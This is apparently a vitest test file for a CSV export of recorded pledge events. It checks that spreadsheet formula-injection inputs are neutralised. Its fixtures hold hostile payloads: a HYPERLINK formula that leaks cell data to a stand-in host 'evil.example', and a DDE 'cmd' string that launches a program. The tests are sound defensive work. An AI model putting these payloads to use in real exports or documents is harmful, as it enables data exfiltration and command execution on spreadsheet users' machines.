import { describe, expect, it } from 'vitest';
import type { StoredEventResponse } from '../rest/responses.js';
import { eventsCsv } from './events-csv.js';

function event(position: number, document: string, actorName?: string): StoredEventResponse {
  return {
    specversion: '1.0',
    id: `e-${position}`,
    type: 'PledgeMade',
    subject: 'BR',
    effectiveAt: '2020-11-10',
    effectivePrecision: 'day',
    schemaVersion: 1,
    source: { document, confidence: 'high' },
    data: {
      instrument: 'statement',
      programme: 'clean-network',
      ...(actorName ? { actorName } : {}),
    },
    recordedBy: 'recorder',
    recordedAt: '2026-01-01T00:00:00.000Z',
    position,
  } as unknown as StoredEventResponse;
}

describe('cleannet export events --format csv', () => {
  it('neutralises and quotes formulas in citations and actor names', () => {
    const csv = eventsCsv([
      event(0, '=HYPERLINK("http://evil.example/?x="&A1,"click me")', "=cmd|' /C calc'!A0"),
      event(1, '@SUM(A1)'),
    ]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"`);
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'@SUM(A1)"`);
    expect(csv).not.toMatch(/(^|,)[=@+-]/m);
  });

  it('keeps one header for every event and positions as numbers', () => {
    const lines = eventsCsv([event(0, 'a.txt', 'Brazil'), event(1, 'b.txt')])
      .trim()
      .split('\n');
    expect(lines[0]!.split(',')).toContain('data.actorName');
    expect(lines[2]!.endsWith(',1')).toBe(true);
  });
});
